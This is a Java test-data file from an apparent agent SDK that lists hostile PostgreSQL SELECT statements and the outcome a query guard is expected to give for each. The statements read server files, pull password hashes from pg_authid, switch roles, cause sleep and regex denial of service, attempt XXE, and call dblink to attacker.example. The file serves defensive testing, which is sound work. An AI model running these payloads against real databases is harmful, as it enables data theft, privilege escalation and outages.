package dev.casemate.agent.sdk;

import static dev.casemate.agent.sdk.SqlAttack.Alone.DENIED;
import static dev.casemate.agent.sdk.SqlAttack.Alone.FAILS;
import static dev.casemate.agent.sdk.SqlAttack.Alone.NOT_THERE;
import static dev.casemate.agent.sdk.SqlAttack.Alone.READS_ITS_OWN;
import static dev.casemate.agent.sdk.SqlAttack.Alone.SPENDS;
import static dev.casemate.agent.sdk.SqlAttack.Alone.TELLS_OF_THE_DATABASE;
import static dev.casemate.agent.sdk.SqlAttack.each;
import static dev.casemate.agent.sdk.SqlRefusal.CHARACTERS;
import static dev.casemate.agent.sdk.SqlRefusal.CLAUSE;
import static dev.casemate.agent.sdk.SqlRefusal.COLUMN;
import static dev.casemate.agent.sdk.SqlRefusal.EXPRESSION;
import static dev.casemate.agent.sdk.SqlRefusal.FUNCTION;
import static dev.casemate.agent.sdk.SqlRefusal.MALFORMED;
import static dev.casemate.agent.sdk.SqlRefusal.OPERATOR;
import static dev.casemate.agent.sdk.SqlRefusal.RENAMING;
import static dev.casemate.agent.sdk.SqlRefusal.STAR;
import static dev.casemate.agent.sdk.SqlRefusal.TABLE;
import static dev.casemate.agent.sdk.SqlRefusal.TYPE;

import java.util.stream.Stream;

/// Hostile statements: SELECTs that reach for functions, tables, columns, types and resources that
/// are not theirs.
final class SqlReachAttacks {

    private SqlReachAttacks() {}

    static Stream<SqlAttack> all() {
        return Stream.of(
                        functions(),
                        functionsAnywhere(),
                        sets(),
                        tables(),
                        columns(),
                        columnsInDisguise(),
                        types(),
                        resources())
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> functions() {
        return Stream.of(
                        each(
                                FUNCTION,
                                DENIED,
                                "SELECT pg_read_file('{file}')",
                                "SELECT pg_catalog.pg_read_file('{file}')",
                                "SELECT \"pg_read_file\"('{file}')",
                                "SELECT PG_READ_FILE('{file}', 0, 100)",
                                "SELECT pg_read_binary_file('{file}')",
                                "SELECT pg_stat_file('{file}')",
                                "SELECT pg_ls_dir('/')",
                                "SELECT pg_ls_logdir()",
                                "SELECT lo_import('{file}')",
                                "SELECT lo_export(1, '{out}/x')",
                                "SELECT lo_create(0)",
                                "SELECT lo_from_bytea(0, 'x')",
                                "SELECT lo_put(1, 0, 'x')",
                                "SELECT lo_get(1)",
                                "SELECT lo_unlink(1)",
                                "SELECT lo_open(1, 131072)",
                                "SELECT nextval('reports_id_seq')",
                                "SELECT setval('reports_id_seq', 1)",
                                "SELECT currval('reports_id_seq')",
                                "SELECT set_config('role', 'postgres', false)",
                                "SELECT set_config('session_authorization', 'postgres', false)",
                                "SELECT set_config('temp_file_limit', '-1', false)",
                                "SELECT current_setting('data_directory')",
                                "SELECT pg_show_all_file_settings()",
                                "SELECT pg_sleep(60)",
                                "SELECT pg_sleep_for('1 minute')",
                                "SELECT pg_sleep_until('2100-01-01')",
                                "SELECT pg_terminate_backend(1)",
                                "SELECT pg_cancel_backend(1)",
                                "SELECT pg_reload_conf()",
                                "SELECT pg_rotate_logfile()",
                                "SELECT pg_switch_wal()",
                                "SELECT pg_create_restore_point('x')",
                                "SELECT pg_promote()",
                                "SELECT pg_create_physical_replication_slot('x')",
                                "SELECT pg_logical_emit_message(false, 'x', 'y')",
                                "SELECT pg_export_snapshot()",
                                "SELECT pg_stat_reset()",
                                "SELECT pg_notify('channel', 'payload')",
                                "SELECT pg_advisory_lock(1)",
                                "SELECT pg_try_advisory_xact_lock(1, 2)",
                                "SELECT pg_advisory_unlock_all()",
                                "SELECT purge()",
                                "SELECT public.purge()",
                                "SELECT query_to_xml('SELECT * FROM salaries', true, true, '')",
                                "SELECT table_to_xml('salaries', true, true, '')",
                                "SELECT table_to_xml('desks', true, true, '')"),
                        each(
                                FUNCTION,
                                READS_ITS_OWN,
                                "SELECT length(CAST(schema_to_xml('public', true, true, '') AS text))",
                                "SELECT repeat('x', 1000)",
                                "SELECT string_to_table('a,b', ',')",
                                "SELECT xpath('/a', '<a/>')",
                                "SELECT xpath('/', '<!DOCTYPE a [<!ENTITY b SYSTEM"
                                        + " \"file://{file}\">]><a>&b;</a>')",
                                "SELECT row_to_json(p) FROM daily_prices p",
                                "SELECT format('%s', 'x')",
                                "SELECT pg_catalog.lower('X')"),
                        each(FUNCTION, FAILS, "SELECT lo_get(CAST('x' AS oid))"),
                        each(
                                FUNCTION,
                                NOT_THERE,
                                "SELECT dblink('host=attacker.example', 'SELECT 1')",
                                "SELECT dblink_connect('host=127.0.0.1 dbname=postgres')",
                                "SELECT pg_file_write('{out}/x', 'y', false)",
                                "SELECT load_file('{file}')",
                                "SELECT query_to_xml('DELETE FROM daily_prices', true, true, '')",
                                "SELECT cursor_to_xml('x', 1, true, true, '')",
                                "SELECT xp_cmdshell('id')",
                                "SELECT sys_eval('id')",
                                "SELECT \"LOWER\"('X')",
                                "SELECT information_schema.lower('X')"),
                        each(
                                FUNCTION,
                                TELLS_OF_THE_DATABASE,
                                "SELECT version()",
                                "SELECT current_setting('is_superuser')",
                                "SELECT pg_get_viewdef('paid')",
                                "SELECT pg_relation_size('salaries')",
                                "SELECT inet_server_addr()",
                                "SELECT has_table_privilege('postgres', 'salaries', 'select')",
                                "SELECT txid_current()",
                                "SELECT pg_backend_pid()"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> functionsAnywhere() {
        return Stream.of(
                        each(
                                FUNCTION,
                                DENIED,
                                "SELECT avg(price), pg_sleep(60) FROM daily_prices",
                                "SELECT price FROM daily_prices ORDER BY pg_sleep(60)::text",
                                "SELECT price FROM daily_prices WHERE 1 = (SELECT"
                                        + " pg_sleep(60)::text::int)",
                                "SELECT price FROM daily_prices GROUP BY price HAVING pg_sleep(1) IS"
                                        + " NULL",
                                "SELECT price FROM daily_prices GROUP BY price, pg_sleep(1)::text",
                                "SELECT price FROM daily_prices LIMIT length(pg_read_file('{file}'))",
                                "SELECT price FROM daily_prices OFFSET"
                                        + " length(pg_read_file('{file}'))",
                                "SELECT CASE WHEN pg_sleep(1) IS NULL THEN 1 END",
                                "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM"
                                        + " daily_prices",
                                "SELECT lag(price) OVER (ORDER BY pg_sleep(1)::text) FROM daily_prices",
                                "SELECT lag(price) OVER (PARTITION BY pg_sleep(1)::text) FROM daily_prices",
                                "SELECT p.price FROM daily_prices p JOIN commodities c ON pg_sleep(1)"
                                        + " IS NULL",
                                "SELECT price FROM daily_prices WHERE day BETWEEN day AND"
                                        + " pg_read_file('{file}')::date",
                                "SELECT price FROM daily_prices WHERE EXISTS (SELECT 1 WHERE"
                                        + " pg_read_file('{file}') > '')",
                                "SELECT price FROM daily_prices WHERE symbol IN"
                                        + " (pg_read_file('{file}'))",
                                "SELECT price FROM daily_prices WHERE symbol LIKE"
                                        + " pg_read_file('{file}')",
                                "SELECT EXTRACT(year FROM pg_read_file('{file}')::date)",
                                "SELECT sum(length(pg_read_file('{file}'))) OVER ()",
                                "SELECT coalesce(pg_read_file('{file}'), 'x')",
                                "SELECT 1 UNION SELECT length(pg_read_file('{file}'))",
                                "WITH a AS (SELECT pg_read_file('{file}') AS x) SELECT x FROM a",
                                "SELECT x FROM (SELECT pg_read_file('{file}') AS x) s",
                                "SELECT CAST(pg_read_file('{file}') AS int)"),
                        each(EXPRESSION, DENIED, "SELECT (pg_stat_file('{file}')).size"),
                        each(
                                CHARACTERS,
                                DENIED,
                                "SELECT ARRAY[pg_read_file('{file}')]",
                                "SELECT (ARRAY(SELECT name FROM salaries))[1]"),
                        each(
                                CLAUSE,
                                DENIED,
                                "SELECT DISTINCT ON (pg_read_file('{file}')) price FROM daily_prices",
                                "SELECT sum(price) OVER w FROM daily_prices WINDOW w AS (ORDER BY"
                                        + " pg_read_file('{file}'))",
                                "SELECT price FROM daily_prices GROUP BY GROUPING SETS ((price),"
                                        + " (pg_read_file('{file}')))",
                                "SELECT max(price ORDER BY pg_read_file('{file}')) FROM"
                                        + " daily_prices"),
                        each(
                                EXPRESSION,
                                READS_ITS_OWN,
                                "SELECT price AT TIME ZONE 'UTC' FROM (SELECT CAST('2026-01-01' AS"
                                        + " timestamp) AS price) d",
                                "SELECT symbol COLLATE \"C\" FROM commodities"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> sets() {
        return Stream.of(
                        each(
                                CLAUSE,
                                DENIED,
                                "SELECT * FROM pg_ls_dir('/')",
                                "SELECT * FROM pg_read_file('{file}') AS t",
                                "SELECT * FROM daily_prices, purge()"),
                        each(CLAUSE, DENIED, "SELECT * FROM ROWS FROM (pg_ls_dir('/'))"),
                        each(
                                COLUMN,
                                DENIED,
                                "SELECT 1 FROM daily_prices, LATERAL (SELECT pin FROM desks) x (y)"),
                        each(FUNCTION, READS_ITS_OWN, "SELECT generate_series(1, 1000000000)"),
                        each(CLAUSE, SPENDS, "SELECT count(*) FROM generate_series(1, 1000000000)"),
                        each(CHARACTERS, READS_ITS_OWN, "SELECT unnest(ARRAY[1, 2])"),
                        each(
                                CLAUSE,
                                READS_ITS_OWN,
                                "SELECT price FROM daily_prices TABLESAMPLE SYSTEM (10)",
                                "SELECT price FROM ONLY daily_prices",
                                "SELECT price FROM daily_prices NATURAL JOIN commodities",
                                "SELECT price FROM daily_prices FETCH FIRST 1 ROW ONLY"),
                        each(
                                FUNCTION,
                                DENIED,
                                "SELECT price FROM daily_prices, LATERAL (SELECT pg_sleep(1)) x"),
                        each(
                                CLAUSE,
                                NOT_THERE,
                                "SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a int PATH '$.a'))"),
                        each(
                                CLAUSE,
                                READS_ITS_OWN,
                                "SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b text)"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> tables() {
        return Stream.of(
                        each(
                                TABLE,
                                DENIED,
                                "SELECT * FROM salaries",
                                "SELECT count(*) FROM reports",
                                "SELECT 1 FROM salaries WHERE amount > 0",
                                "SELECT * FROM paid",
                                "SELECT * FROM public.salaries",
                                "SELECT * FROM postgres.public.salaries",
                                "SELECT price FROM daily_prices UNION SELECT amount FROM salaries",
                                "SELECT price FROM daily_prices WHERE price IN (SELECT amount FROM"
                                        + " salaries)",
                                "SELECT (SELECT max(amount) FROM salaries)",
                                "SELECT price FROM daily_prices NATURAL JOIN salaries",
                                "SELECT price FROM daily_prices, salaries",
                                "SELECT 1 FROM daily_prices LEFT JOIN salaries ON true",
                                "SELECT 1 FROM (SELECT * FROM salaries) s",
                                "SELECT CASE WHEN (SELECT amount FROM salaries) > 0 THEN 1 / (SELECT 0) END",
                                "WITH a AS (SELECT * FROM salaries), salaries AS (SELECT 1 AS price)"
                                        + " SELECT * FROM a",
                                "SELECT * FROM salaries WHERE EXISTS (SELECT 1)",
                                "WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries",
                                "SELECT rolpassword FROM pg_catalog.pg_authid",
                                "SELECT * FROM pg_authid",
                                "SELECT * FROM pg_shadow",
                                "SELECT * FROM pg_statistic",
                                "SELECT * FROM pg_largeobject",
                                "SELECT * FROM pg_user_mapping",
                                "SELECT * FROM pg_subscription",
                                "SELECT * FROM pg_hba_file_rules",
                                "SELECT * FROM pg_file_settings",
                                "SELECT * FROM pg_config",
                                "SELECT * FROM reports_id_seq"),
                        each(
                                TABLE,
                                TELLS_OF_THE_DATABASE,
                                "SELECT table_name FROM information_schema.tables",
                                "SELECT relname FROM pg_class",
                                "SELECT pg_get_functiondef(oid) FROM pg_proc WHERE proname = 'purge'",
                                "SELECT rolname FROM pg_roles",
                                "SELECT name, setting FROM pg_settings",
                                "SELECT datname, usename, query FROM pg_stat_activity",
                                "SELECT prosrc FROM pg_proc WHERE proname = 'purge'",
                                "SELECT attname FROM pg_attribute WHERE attrelid ="
                                        + " 'salaries'::regclass",
                                "SELECT * FROM pg_db_role_setting",
                                "SELECT definition FROM pg_views WHERE viewname = 'paid'",
                                "SELECT reltuples FROM pg_class WHERE relname = 'salaries'",
                                "SELECT n_live_tup FROM pg_stat_all_tables WHERE relname ="
                                        + " 'salaries'",
                                "SELECT * FROM pg_locks",
                                "SELECT * FROM pg_extension"),
                        each(
                                TABLE,
                                READS_ITS_OWN,
                                "SELECT most_common_vals FROM pg_stats WHERE tablename IN ('salaries',"
                                        + " 'desks', 'reports')",
                                "SELECT column_name FROM information_schema.columns WHERE table_name"
                                        + " IN ('salaries', 'reports')"),
                        each(
                                TABLE,
                                NOT_THERE,
                                "SELECT * FROM other.daily_prices",
                                "SELECT * FROM warehouse.public.daily_prices",
                                "SELECT * FROM \"Salaries\"",
                                "SELECT * FROM \"SALARIES\"",
                                "SELECT * FROM dual",
                                "SELECT * FROM sys.tables",
                                "SELECT * FROM sqlite_master"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> columns() {
        return Stream.of(
                        each(
                                COLUMN,
                                DENIED,
                                "SELECT pin FROM desks",
                                "SELECT d.pin FROM desks d",
                                "SELECT \"pin\" FROM desks",
                                "SELECT id FROM desks WHERE pin LIKE 'C%'",
                                "SELECT id FROM desks ORDER BY pin",
                                "SELECT count(*) FROM desks GROUP BY pin",
                                "SELECT max(pin) FROM desks",
                                "SELECT a.id FROM desks a JOIN desks b USING (pin)",
                                "SELECT a.id FROM desks a JOIN desks b ON a.pin = b.pin",
                                "SELECT first_value(name) OVER (ORDER BY pin) FROM desks",
                                "SELECT pin::int FROM desks",
                                "SELECT CASE WHEN pin > 'A' THEN 1 / (id - id) ELSE 1 END FROM desks",
                                "SELECT ctid FROM desks",
                                "SELECT xmin, tableoid FROM desks",
                                "SELECT tableoid FROM desks",
                                "SELECT ctid FROM daily_prices LIMIT 1"),
                        each(
                                COLUMN,
                                READS_ITS_OWN,
                                "SELECT current_user",
                                "SELECT session_user FROM daily_prices",
                                "SELECT user"),
                        each(
                                COLUMN,
                                NOT_THERE,
                                "SELECT password FROM daily_prices",
                                "SELECT salaries.amount FROM daily_prices",
                                "SELECT p.unit FROM daily_prices p JOIN commodities c ON c.symbol ="
                                        + " p.symbol"),
                        each(
                                COLUMN,
                                READS_ITS_OWN,
                                "SELECT p.row_to_json FROM daily_prices p LIMIT 1"))
                .flatMap(each -> each);
    }

    /// The same columns, by names that the statement itself gives.
    private static Stream<SqlAttack> columnsInDisguise() {
        return Stream.of(
                        each(
                                COLUMN,
                                DENIED,
                                "SELECT 1 AS pin, pin FROM desks",
                                "SELECT name AS pin FROM desks WHERE pin = 'x'",
                                "SELECT 1 AS d, d FROM desks d",
                                "SELECT d FROM desks d",
                                "SELECT desks FROM desks",
                                "SELECT count(d) FROM desks d",
                                "SELECT d::text FROM desks d",
                                "SELECT d IS NULL FROM desks d",
                                "SELECT name FROM desks d ORDER BY d",
                                "SELECT (SELECT pin FROM desks LIMIT 1) FROM (SELECT 1 AS nip) o",
                                "SELECT d.row_to_json FROM desks d",
                                "SELECT o.x FROM (SELECT pin AS x FROM desks) o"),
                        each(
                                STAR,
                                DENIED,
                                "SELECT coalesce(d.*) FROM desks d",
                                "SELECT count(d.*) FROM desks d"),
                        each(
                                RENAMING,
                                DENIED,
                                "SELECT d.c FROM desks AS d (a, b, c)",
                                "SELECT c FROM public.daily_prices p, desks d (a, b, c)"),
                        each(
                                STAR,
                                DENIED,
                                "WITH w (a, b, c) AS (SELECT * FROM desks) SELECT c FROM w",
                                "SELECT o.c FROM (SELECT * FROM desks) AS o (a, b, c)",
                                "SELECT * FROM desks ORDER BY 3",
                                "SELECT id, name, '' FROM desks UNION SELECT * FROM desks"),
                        each(STAR, NOT_THERE, "SELECT *", "SELECT max(d.*) FROM desks d"),
                        each(
                                FUNCTION,
                                DENIED,
                                "SELECT row_to_json(d) FROM desks d",
                                "SELECT ROW(d.*) FROM desks d"),
                        each(
                                EXPRESSION,
                                DENIED,
                                "SELECT (d).pin FROM desks d",
                                "SELECT (d.*).pin FROM desks d"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> types() {
        return Stream.of(
                        each(
                                TYPE,
                                TELLS_OF_THE_DATABASE,
                                "SELECT 'salaries'::regclass",
                                "SELECT 'salaries'::regclass::oid",
                                "SELECT CAST('purge' AS regproc)",
                                "SELECT 'postgres'::regrole"),
                        each(TYPE, NOT_THERE, "SELECT CAST('x' AS public.evil)"),
                        each(
                                TYPE,
                                READS_ITS_OWN,
                                "SELECT '<a/>'::xml",
                                "SELECT '{\"a\": 1}'::json",
                                "SELECT '(1,2)'::point"),
                        each(FUNCTION, DENIED, "SELECT (pg_read_file('{file}'))::bytea"),
                        each(
                                TYPE,
                                FAILS,
                                "SELECT '<!DOCTYPE a [<!ENTITY b SYSTEM \"file://{file}\">"
                                        + "]><a>&b;</a>'::xml::text::int"),
                        each(CHARACTERS, READS_ITS_OWN, "SELECT '{1}'::int[]"))
                .flatMap(each -> each);
    }

    private static Stream<SqlAttack> resources() {
        return Stream.of(
                        each(
                                CHARACTERS,
                                READS_ITS_OWN,
                                "SELECT price FROM daily_prices WHERE symbol ~ '^X'",
                                "SELECT 2 ^ 3",
                                "SELECT 5 # 3",
                                "SELECT 1 & 3"),
                        each(
                                FUNCTION,
                                SPENDS,
                                "SELECT count(repeat('x', 1000) SIMILAR TO"
                                        + " '((x*)*)*y') FROM daily_prices a, daily_prices b,"
                                        + " daily_prices c, daily_prices d, daily_prices e, daily_prices f",
                                "SELECT sum(length(repeat(a.symbol, 1000000))) FROM daily_prices a,"
                                        + " daily_prices b, daily_prices c"),
                        each(
                                FUNCTION,
                                FAILS,
                                "SELECT repeat('x', 2000000000)",
                                "SELECT repeat('x', 100000000)",
                                "SELECT lpad('x', 2000000000)"),
                        each(
                                OPERATOR,
                                READS_ITS_OWN,
                                "SELECT symbol IS DISTINCT FROM 'x' FROM daily_prices",
                                "SELECT price FROM daily_prices WHERE symbol SIMILAR TO '(X|Y)%'"),
                        each(
                                MALFORMED,
                                READS_ITS_OWN,
                                "SELECT price FROM daily_prices WHERE symbol OPERATOR(pg_catalog.=)"
                                        + " 'XCU'"),
                        each(
                                EXPRESSION,
                                READS_ITS_OWN,
                                "SELECT price = ANY (SELECT price FROM daily_prices) FROM daily_prices"))
                .flatMap(each -> each);
    }
}
